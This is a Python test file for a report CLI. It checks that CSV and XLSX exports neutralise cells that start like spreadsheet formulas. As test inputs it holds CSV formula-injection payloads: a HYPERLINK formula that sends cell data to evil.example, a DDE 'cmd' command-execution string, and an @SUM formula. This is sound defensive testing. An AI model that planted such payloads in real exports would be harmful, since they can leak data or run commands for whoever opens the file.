"""No public text runs as a spreadsheet formula: CSV cells that start like one get a leading quote,
XLSX cells are written as text."""

import csv
import io

import openpyxl

from helpers import approve

SITE = ("--site", "north-miami")
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "text": "+cmd|' /C calc'!A0",
    "owner": "@SUM(1+1)",
}


def hostile_report(cli):
    cli.ok(
        "log-finding",
        *SITE,
        "--focus-area",
        "technology",
        "--date",
        "2024-06-03",
        "--title",
        HOSTILE["title"],
    )
    cli.ok(
        "recommend",
        *SITE,
        "--finding",
        "3.1",
        "--date",
        "2024-06-03",
        "--text",
        HOSTILE["text"],
        "--owner",
        HOSTILE["owner"],
    )
    cli.ok("recommend", *SITE, "--finding", "3.1", "--date", "2024-06-03", "--text", "-2+3")
    approve(cli, "north-miami", "3.1", "3.1.1", "3.1.2")


def test_csv_cells_that_start_like_formulas_are_quoted(north_miami):
    hostile_report(north_miami)
    rows = list(csv.DictReader(io.StringIO(north_miami.ok("report", *SITE, "--format", "csv"))))
    assert [r["recommendation"] for r in rows] == ["3.1.1", "3.1.2"]
    assert rows[0]["finding_title"] == "'" + HOSTILE["title"]
    assert rows[0]["recommendation_text"] == "'" + HOSTILE["text"]
    assert rows[0]["owner"] == "'" + HOSTILE["owner"]
    assert rows[1]["recommendation_text"] == "'-2+3"
    assert rows[1]["owner"] == ""  # an empty cell stays empty, not a lone quote


def test_xlsx_cells_are_text_not_formulas(north_miami, tmp_path):
    hostile_report(north_miami)
    north_miami.ok("report", *SITE, "--format", "xlsx", "--output", tmp_path / "t.xlsx")
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    cells = [
        c
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]
    hostile = [c for c in cells if c.value in HOSTILE.values()]
    assert {c.value for c in hostile} == set(HOSTILE.values())
    assert {c.data_type for c in hostile} == {"s"}
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_text_that_only_looks_like_a_sign_is_left_alone(north_miami):
    """A leading "- " (a bullet) or a lone "-" is no formula: no quote is added to it."""
    north_miami.ok(
        "log-finding",
        *SITE,
        "--focus-area",
        "technology",
        "--date",
        "2024-06-03",
        "--title",
        "- a bullet",
    )
    north_miami.ok(
        "recommend",
        *SITE,
        "--finding",
        "3.1",
        "--date",
        "2024-06-03",
        "--text",
        "- first step",
        "--owner",
        "-",
    )
    approve(north_miami, "north-miami", "3.1", "3.1.1")
    [row] = list(csv.DictReader(io.StringIO(north_miami.ok("report", *SITE, "--format", "csv"))))
    assert (row["finding_title"], row["recommendation_text"], row["owner"]) == (
        "- a bullet",
        "- first step",
        "-",
    )
